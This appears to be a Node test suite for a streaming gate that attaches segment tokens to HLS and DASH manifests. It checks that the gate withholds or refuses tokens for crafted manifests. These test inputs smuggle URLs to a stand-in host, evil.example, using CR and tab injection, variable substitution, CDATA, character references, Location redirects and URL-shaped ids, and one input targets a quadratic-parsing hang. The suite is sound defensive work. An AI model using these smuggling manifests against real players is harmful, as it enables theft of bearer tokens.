// The gate's segment tokens never leave for a URL the gate did not check (fail closed). A segment
// token is a bearer credential for a title's folder: the gate writes it only into URIs it reads
// as its own, in that folder. A player may read a playlist or an MPD otherwise: hls.js ends a
// line at a bare CR and fills in EXT-X-DEFINE variables, a browser resolves `https:seg.ts`
// against the page, an XML parser reads CDATA, comments and character references, a DASH player
// takes `<Location>` as the MPD's new URL and puts a Representation's id into `$RepresentationID$`.
// Each origin manifest below is crafted so that a reading other than the gate's own would send
// the token elsewhere. What decides where the token goes is not the gate's code: for HLS the
// real hls.js (its playlist loader, run in Node) and the WHATWG URL parser as a page's fetch
// resolves a URL; for DASH fast-xml-parser (an XML parser: CDATA, comments, entities) and the
// DASH rules (ISO/IEC 23009-1: Location, BaseURL resolution, template identifiers).
// Each crafted manifest also lists a plain URI of the gate's own, which must carry the token, so
// no case passes by the gate writing no token at all, unless the whole manifest is one the gate
// must leave without tokens (then that is asserted).
import { test } from 'node:test';
import assert from 'node:assert/strict';
import path from 'node:path';
import { createHmac } from 'node:crypto';
import { XMLParser } from 'fast-xml-parser';
import { PKG } from './helpers.mjs';
import { textLoader } from './players-in-node.mjs';

const { createGate, PlaybackTokenMinter } = await import(path.join(PKG, 'edge/node/index.mjs'));

const GATE = 'https://gate.example';
const PAGE = 'https://player.example/watch/title'; // the player page a browser resolves against
const FOLDER = '/Movie1/';
const SECRET = 'segment-secret-of-at-least-32-bytes!!';
const HS_JWK = { kty: 'oct', k: Buffer.from(new Uint8Array(32).map((_, i) => (i * 13 + 5) & 0xff)).toString('base64url'), kid: 'hs1' };
const minter = PlaybackTokenMinter.fromJson({ algorithm: 'HS256', key: HS_JWK, kid: 'hs1', audience: 'edge' });
const playback = () => minter.mint({
  scope: { permissions: [{ role: 'readonly', cache: 'media', item: { keyPrefix: FOLDER } }] },
  subject: 'v', entitlement: { maxQuality: 'HD' },
});

/** A gate whose origin serves `bodies` (path -> text), and what it answers for `url`: its text. */
async function served(bodies, url) {
  const gate = createGate({
    verifier: { algorithms: ['HS256'], keys: { keys: [HS_JWK] }, audience: 'edge' },
    origin: 'https://origin.example',
    fetch: async (target) => new Response(bodies[new URL(target).pathname] ?? 'bytes', { status: 200 }),
    segmentTokens: { secret: SECRET, lifetimeSeconds: 120 },
  });
  const res = await gate.fetch(new Request(`${GATE}${url}`, { headers: { authorization: `Bearer ${playback()}` } }), {}, {});
  assert.equal(res.status, 200, url);
  return res.text();
}

/** Whether `url` (absolute) carrying a segment token is the gate's own, in the folder. */
function ownUrl(url) {
  const u = new URL(url);
  return u.origin === GATE && u.username === '' && decodeURIComponent(u.pathname).startsWith(FOLDER);
}
const carriesToken = (url) => url.includes('segment_token=');

// ---- HLS: what the real hls.js requests for a media playlist
globalThis.self ??= globalThis;
globalThis.location ??= { href: PAGE }; // hls.js resolves a source against the page
const { default: Hls } = await import('hls.js/dist/hls.mjs');

/** The URLs hls.js asks for (segments, init segments, keys) for the media playlist `text` at `url`, each as a page resolves it. */
function hlsRequests(url, text) {
  return new Promise((resolve, reject) => {
    const hls = new Hls({ loader: textLoader(text), enableWorker: false, autoStartLoad: false });
    const timer = setTimeout(() => { hls.destroy(); reject(new Error('hls.js read no playlist')); }, 5000);
    const done = (value, error) => {
      clearTimeout(timer);
      setTimeout(() => hls.destroy());
      if (error) reject(error);
      else resolve(value);
    };
    hls.on(Hls.Events.LEVEL_LOADED, (_event, { details }) => {
      const urls = new Set();
      for (const fragment of details.fragments) {
        if (fragment.initSegment) urls.add(fragment.initSegment.url);
        for (const key of Object.values(fragment.levelkeys ?? {})) urls.add(key.uri);
        urls.add(fragment.url);
      }
      done([...urls].map((u) => new URL(u, PAGE).href));
    });
    hls.on(Hls.Events.ERROR, (_event, data) => { if (data.fatal) done(null, new Error(`hls.js: ${data.details}`)); });
    hls.loadSource(`${GATE}${url}`);
  });
}

const MEDIA_URL = '/Movie1/480p/p.m3u8';
const media = (lines) => `#EXTM3U\n#EXT-X-VERSION:8\n#EXT-X-TARGETDURATION:6\n${lines}\n#EXTINF:6,\nok.ts\n#EXT-X-ENDLIST\n`;
const HLS_CASES = {
  'a `$&` in a URI (a replacement pattern) with userinfo': '#EXTINF:6,\n//evil.example$&@gate.example/Movie1/480p/seg1.ts\n#EXTINF:6,\nseg$$2.ts',
  // `seg_1`: an `_` ends what the WHATWG parser could read as a scheme (`seg1.tshttps:`).
  'a bare CR inside a URI line (a line break to hls.js)': '#EXTINF:6,\nseg_1.ts\rhttps://evil.example/x.ts',
  'EXT-X-DEFINE variables in URIs (filled in by the player)': '#EXT-X-DEFINE:NAME="h",VALUE="https://evil.example"\n#EXT-X-MAP:URI="{$h}/init.mp4"\n#EXTINF:6,\n{$h}/seg1.ts',
  'a scheme without an authority (`https:seg.ts`: the page\'s URL to a browser)': '#EXTINF:6,\nhttps:seg1.ts',
  'backslashes': '#EXTINF:6,\n\\\\evil.example\\seg1.ts',
  'a tab inside a URI': '#EXTINF:6,\nseg_1.ts\thttps://evil.example/x.ts',
  'a key server and another host': '#EXT-X-KEY:METHOD=AES-128,URI="https://keys.example/k"\n#EXTINF:6,\nhttps://cdn.example/Movie1/480p/seg1.ts',
  'another title and a way up': '#EXTINF:6,\n/Movie2/480p/seg1.ts\n#EXTINF:6,\n../../Movie2/480p/seg2.ts',
  // An unquoted URI (hls.js reads one) whose text holds `URI="..."`: a pattern over the line
  // found a URI there, and the token went into the key server's and the CDN's URLs.
  'unquoted URI attributes holding URI="..." (a key, an init segment)': '#EXT-X-KEY:METHOD=AES-128,URI=https://keys.example/k?URI="k.key"\n#EXT-X-MAP:URI=https://cdn.example/init.mp4?URI="init.mp4"\n#EXTINF:6,\nseg1.ts',
  'a bare CR inside a tag line (a line break to hls.js), a URI="..." after it': '#EXTINF:6,\rhttps://evil.example/x.ts?URI="seg1.ts"',
};

for (const [name, lines] of Object.entries(HLS_CASES)) {
  test(`HLS, ${name}: every URL hls.js asks for with a segment token is the gate's own, in the folder`, async () => {
    const text = await served({ [MEDIA_URL]: media(lines) }, MEDIA_URL);
    const urls = await hlsRequests(MEDIA_URL, text);
    assert.ok(urls.some((u) => u.startsWith(`${GATE}/Movie1/480p/ok.ts?segment_token=`)), `the plain URI carries the token:\n${text}`);
    for (const url of urls.filter(carriesToken)) assert.ok(ownUrl(url), `a token sent to ${url}\n${text}`);
  });
}

test('HLS: a playlist whose EXT-X-DEFINE copies the URL\'s token parameter into URIs is refused (hls.js would send it to any host)', async () => {
  const lines = '#EXT-X-DEFINE:QUERYPARAM="segment_token"\n#EXT-X-KEY:METHOD=AES-128,URI="https://keys.example/k?t={$segment_token}"\n#EXTINF:6,\nseg1.ts';
  // The danger, shown by the real hls.js: the playlist as the origin wrote it, loaded at a URL
  // carrying a segment token (as the gate writes a master's variants), sends the token away.
  const urls = await hlsRequests(`${MEDIA_URL}?segment_token=v1.SECRET`, media(lines));
  assert.ok(urls.includes('https://keys.example/k?t=v1.SECRET'), urls.join('\n'));
  // Any QUERYPARAM, wherever hls.js finds it: after a tab, inside another tag's line, its name
  // filled in from another variable; and one naming another parameter (the URL the gate writes
  // carries its tokens: no parameter of it goes into a URI the gate did not check).
  for (const define of ['QUERYPARAM="segment_token"', 'QUERYPARAM="token"', 'QUERYPARAM=token', 'QUERYPARAM="cdn_auth"']) {
    const origin = media(lines.replace('#EXT-X-DEFINE:QUERYPARAM="segment_token"', `#EXT-X-DEFINE:${define}`));
    const g = createGate({
      verifier: { algorithms: ['HS256'], keys: { keys: [HS_JWK] }, audience: 'edge' }, origin: 'https://origin.example',
      fetch: async () => new Response(origin), segmentTokens: { secret: SECRET },
    });
    const res = await g.fetch(new Request(`${GATE}${MEDIA_URL}?token=${playback()}`), {}, {});
    assert.equal(res.status, 502, define);
    assert.equal((await res.json()).code, 'INVALID_MANIFEST', define);
  }
  for (const hidden of ['\t#EXT-X-DEFINE:QUERYPARAM="segment_token"', '#EXTINF:6#EXT-X-DEFINE:QUERYPARAM="segment_token"',
    '#EXT-X-DEFINE:NAME="q",VALUE="segment_token"\n#EXT-X-DEFINE:QUERYPARAM="{$q}"']) {
    const text = media(`${hidden}\n#EXT-X-KEY:METHOD=AES-128,URI="https://keys.example/k?t={$segment_token}"\n#EXTINF:6,\nseg1.ts`);
    const g = createGate({
      verifier: { algorithms: ['HS256'], keys: { keys: [HS_JWK] }, audience: 'edge' }, origin: 'https://origin.example',
      fetch: async () => new Response(text), segmentTokens: { secret: SECRET },
    });
    const res = await g.fetch(new Request(`${GATE}${MEDIA_URL}?token=${playback()}`), {}, {});
    assert.equal(res.status, 502, hidden);
    await res.arrayBuffer();
  }
});

test('HLS: own URIs with spaces after the commas (hls.js and Shaka read them) carry the token; a map sharing its file with a part keeps the folder token', async () => {
  const text = await served({ [MEDIA_URL]: media('#EXT-X-KEY:METHOD=AES-128, URI="key.bin"\n#EXT-X-MAP:URI="init.mp4", byterange="800@0"\n#EXTINF:6,\nseg1.ts') }, MEDIA_URL);
  const urls = await hlsRequests(MEDIA_URL, text);
  for (const own of ['key.bin', 'init.mp4', 'seg1.ts']) assert.ok(urls.some((u) => u.startsWith(`${GATE}/Movie1/480p/${own}?segment_token=`)), `${own}\n${text}`);
  // A single-file stream: the map's file is a part's too, so it gets the folder token, not a
  // session-long file token (which would open the whole media file).
  const live = '#EXTM3U\n#EXT-X-VERSION:9\n#EXT-X-TARGETDURATION:2\n#EXT-X-PART-INF:PART-TARGET=1.0\n#EXT-X-MAP:URI="main.mp4",BYTERANGE="800@0"\n'
    + '#EXT-X-PART:DURATION=1.0, URI="main.mp4",BYTERANGE="1000@800"\n#EXT-X-PRELOAD-HINT:TYPE=PART,URI="main.mp4",BYTERANGE-START=1800\n';
  const served$ = await served({ [MEDIA_URL]: live }, MEDIA_URL);
  const tokens = [...served$.matchAll(/segment_token=([^",\s]+)/g)].map((m) => m[1]);
  assert.ok(tokens.length >= 2, served$);
  assert.equal(new Set(tokens).size, 1, `one folder token for the map and the part\n${served$}`);
});

test('HLS: a URI is written as the origin wrote it, the token added (`$$` stays `$$`)', async () => {
  const text = await served({ [MEDIA_URL]: media('#EXTINF:6,\nseg$$2.ts') }, MEDIA_URL);
  assert.match(text, /^seg\$\$2\.ts\?segment_token=v1\./m);
});

test('HLS: a master with EXT-X-CONTENT-STEERING (a pathway may move its URIs to another host) gets no token', async () => {
  const master = '#EXTM3U\n#EXT-X-CONTENT-STEERING:SERVER-URI="https://steer.example/s.json",PATHWAY-ID="a"\n'
    + '#EXT-X-STREAM-INF:BANDWIDTH=1000000,RESOLUTION=854x480,PATHWAY-ID="a"\n480p/p.m3u8\n';
  const text = await served({ '/Movie1/playlist.m3u8': master }, '/Movie1/playlist.m3u8');
  assert.match(text, /^480p\/p\.m3u8$/m, 'the variant is listed');
  assert.ok(!text.includes('segment_token'), text);
  // The same master without steering: its variant carries the token.
  const plain = await served({ '/Movie1/playlist.m3u8': master.replace(/#EXT-X-CONTENT-STEERING[^\n]*\n/, '').replace(',PATHWAY-ID="a"', '') }, '/Movie1/playlist.m3u8');
  assert.match(plain, /^480p\/p\.m3u8\?segment_token=v1\./m);
});

test('a file token is never a folder token: an EXT-X-MAP URI naming the folder gets the folder token, and a file-labelled tag over the folder opens nothing', async () => {
  const text = await served({ [MEDIA_URL]: media('#EXT-X-MAP:URI="../"') }, MEDIA_URL);
  const mapToken = /URI="\.\.\/\?segment_token=([^"]+)"/.exec(text)?.[1];
  const segmentToken = /^ok\.ts\?segment_token=(\S+)$/m.exec(text)?.[1];
  assert.ok(mapToken && segmentToken, text);
  assert.equal(mapToken, segmentToken, 'the map naming the folder carries the folder\'s short token, not a session-long file token');
  // Tags made with node:crypto from the README's format: over the folder with a file token's
  // label (exp = until), and the same with the folder label (the control).
  const gate = createGate({
    verifier: { algorithms: ['HS256'], keys: { keys: [HS_JWK] }, audience: 'edge' }, origin: 'https://origin.example',
    fetch: async () => new Response('bytes'), segmentTokens: { secret: SECRET },
  });
  const exp = Math.floor(Date.now() / 1000) + 3600;
  const tokenWith = (label) => {
    const tag = createHmac('sha256', SECRET).update(`${label}\n${FOLDER}\n${exp}\n${exp}\n2\n-`).digest().subarray(0, 16).toString('base64url');
    return `v1.${exp}.${exp}.2.-.${tag}`;
  };
  const status = async (token) => (await gate.fetch(new Request(`${GATE}/Movie1/480p/seg1.ts?segment_token=${token}`), {}, {})).status;
  assert.equal(await status(tokenWith('playgate-segment-v1')), 200, 'a folder token opens the folder');
  assert.equal(await status(tokenWith('playgate-segment-file-v1')), 403, 'a file token over the folder does not');
});

// ---- DASH: where an XML parser and the DASH rules send each URL with a token
const xml = new XMLParser({ ignoreAttributes: false, attributeNamePrefix: '', htmlEntities: true, trimValues: true, isArray: () => true });
const textOf = (node) => (typeof node === 'string' ? node : node?.['#text'] ?? '');
const fill = (template, id) => String(template).replace(/\$(RepresentationID|Number|Time|Bandwidth)(%0\d+d)?\$/g, (_, name) => (name === 'RepresentationID' ? id : '1')).replace(/\$\$/g, '$');

/**
 * Every segment URL of the MPD `text` served at `url`, as a DASH player resolves it: against the
 * MPD's Location when it has one (its new URL), then each level's first BaseURL (MPD, Period,
 * AdaptationSet, Representation), the templates filled for each Representation.
 */
function dashUrls(url, text) {
  const [mpd] = xml.parse(text).MPD;
  let base = new URL(url, GATE).href;
  if (mpd.Location) base = new URL(textOf(mpd.Location[0]), base).href;
  const below = (b, node) => (node.BaseURL ? new URL(textOf(node.BaseURL[0]), b).href : b);
  const urls = [];
  const mpdBase = below(base, mpd);
  for (const period of mpd.Period ?? []) {
    const periodBase = below(mpdBase, period);
    for (const set of period.AdaptationSet ?? []) {
      const setBase = below(periodBase, set);
      for (const rep of set.Representation ?? []) {
        const repBase = below(setBase, rep);
        if (rep.BaseURL) urls.push(repBase);
        const template = rep.SegmentTemplate?.[0] ?? set.SegmentTemplate?.[0];
        for (const attr of ['initialization', 'media']) if (template?.[attr]) urls.push(new URL(fill(template[attr], rep.id), repBase).href);
      }
    }
  }
  return urls;
}

const MPD_URL = '/Movie1/manifest.mpd';
const mpdWith = ({
  top = '', base = null, id = '480p', rep = `id="${id}"`, media = '$RepresentationID$/seg-$Number$.m4s',
  template = `<SegmentTemplate initialization="480p/init.mp4" media="${media}" startNumber="1" duration="6" timescale="1"/>`,
} = {}) => `<?xml version="1.0"?>
<!-- written by a packager -->
<MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static" mediaPresentationDuration="PT12S" minBufferTime="PT2S" profiles="urn:mpeg:dash:profile:isoff-live:2011">
  ${top}${base === null ? '' : `<BaseURL>${base}</BaseURL>`}
  <Period>
    <AdaptationSet mimeType="video/mp4">
      ${template}
      <Representation ${rep} bandwidth="1000000" width="854" height="480" codecs="avc1.4d401e"/>
    </AdaptationSet>
  </Period>
</MPD>
`;
const DASH_CASES = {
  'a BaseURL in CDATA': { base: '<![CDATA[https://evil.example/]]>' },
  'a BaseURL after a comment': { base: '<!-- x -->https://evil.example/' },
  'a BaseURL with a character reference (`&#58;`)': { base: 'https&#58;//evil.example/' },
  'a protocol-relative BaseURL in character references': { base: '&#x2F;&#x2F;evil.example/' },
  'a BaseURL with backslashes': { base: '\\\\evil.example\\' },
  'a BaseURL with a tab in its scheme': { base: 'h\tttps://evil.example/' },
  'an absolute BaseURL': { base: 'https://cdn.example/Movie1/' },
  'a Location on another host (the MPD\'s new URL)': { top: '<Location>https://cdn.example/Movie1/manifest.mpd</Location>\n  ' },
  'a Location on the gate, another title': { top: `<Location>${GATE}/Movie2/manifest.mpd</Location>\n  ` },
  'a Representation id that is a URL, in $RepresentationID$': { id: 'https://evil.example/480p' },
  'a Representation id climbing out of the folder': { id: '../../Movie2/480p' },
  'a Representation whose ` id="480p"` is inside another attribute\'s value, its id a URL': { rep: `label=' id="480p"' id="https://evil.example/x"` },
  'a BaseURL climbing by percent-encoded dots (`%2e%2e`, `..` to a URL parser)': { base: '%2e%2e/Movie2/' },
  'single-quoted template URLs holding media="..." and initialization="..." (another value\'s text to a pattern)': {
    template: `<SegmentTemplate media='https://cdn.example/$Number$.m4s?media="480p/seg.m4s"' initialization='https://cdn.example/init.mp4?initialization="480p/init.mp4"' startNumber="1" duration="6" timescale="1"/>`,
  },
  'a template whose $RepresentationID$ comes before a colon (a scheme once filled in)': { id: 'https', media: '$RepresentationID$://evil.example/seg-$Number$.m4s' },
};

for (const [name, parts] of Object.entries(DASH_CASES)) {
  test(`DASH, ${name}: no segment URL carries a token to a place the gate did not check`, async () => {
    const text = await served({ [MPD_URL]: mpdWith(parts) }, MPD_URL);
    for (const url of dashUrls(MPD_URL, text).filter(carriesToken)) assert.ok(ownUrl(url), `a token sent to ${url}\n${text}`);
  });
}

test('DASH: the plain MPD, a relative BaseURL and a Location that is the MPD\'s own URL carry the token to every segment', async () => {
  for (const parts of [{}, { base: '480p/../' }, { base: 'sub/' }, { top: `<Location>${GATE}${MPD_URL}</Location>\n  ` }, { id: 'video=1000000' }]) {
    const text = await served({ [MPD_URL]: mpdWith(parts) }, MPD_URL);
    const urls = dashUrls(MPD_URL, text);
    const tokened = urls.filter(carriesToken);
    // A BaseURL that climbs is left without tokens (checked below); the others carry one.
    if (parts.base === '480p/../') {
      assert.equal(tokened.length, 0, text);
      continue;
    }
    assert.equal(tokened.length, urls.length, `${JSON.stringify(parts)}: every segment URL carries the token\n${text}`);
    for (const url of tokened) assert.ok(ownUrl(url), url);
  }
});

test('DASH: an MPD that copies its URL\'s query into segment URLs (urn:mpeg:dash:urlparam, which Shaka follows) is refused; a character reference in a URL gets no token', async () => {
  const urlparam = mpdWith({ top: '<EssentialProperty schemeIdUri="urn:mpeg:dash:urlparam:2014"><UrlQueryInfo queryTemplate="$querypart$" useMPDUrlQuery="true"/></EssentialProperty>\n  ' });
  const gate = createGate({
    verifier: { algorithms: ['HS256'], keys: { keys: [HS_JWK] }, audience: 'edge' }, origin: 'https://origin.example',
    fetch: async () => new Response(urlparam), segmentTokens: { secret: SECRET },
  });
  const res = await gate.fetch(new Request(`${GATE}${MPD_URL}?token=${playback()}`), {}, {});
  assert.equal(res.status, 502);
  assert.equal((await res.json()).code, 'INVALID_MANIFEST');
  // `&#x41;`: its `#` is no fragment; a token written there would break the XML.
  const text = await served({ [MPD_URL]: mpdWith({ media: 'seg_$Number$.m4s?cdn=1&amp;tag=&#x41;' }) }, MPD_URL);
  assert.match(text, /media="seg_\$Number\$\.m4s\?cdn=1&amp;tag=&#x41;"/, text);
});

test('DASH: ContentSteering (it may move URLs to another host) leaves the MPD without tokens', async () => {
  const text = await served({ [MPD_URL]: mpdWith({ top: '<ContentSteering defaultServiceLocation="a">https://steer.example/s.json</ContentSteering>\n  ' }) }, MPD_URL);
  assert.ok(!text.includes('segment_token'), text);
});

test('DASH: an MPD of many self-closing BaseURL elements is read in one pass (no token; it was quadratic: a minute for 1.5 MB)', async () => {
  const many = mpdWith({ top: '<BaseURL/>'.repeat(120_000) });
  const started = Date.now();
  const text = await served({ [MPD_URL]: many }, MPD_URL);
  // A generous bound for a hang check, not a speed claim: the quadratic scan took over a minute.
  assert.ok(Date.now() - started < 10_000, `${Date.now() - started} ms`);
  assert.ok(!text.includes('segment_token'), 'a BaseURL that is no text: the MPD gets no token');
});
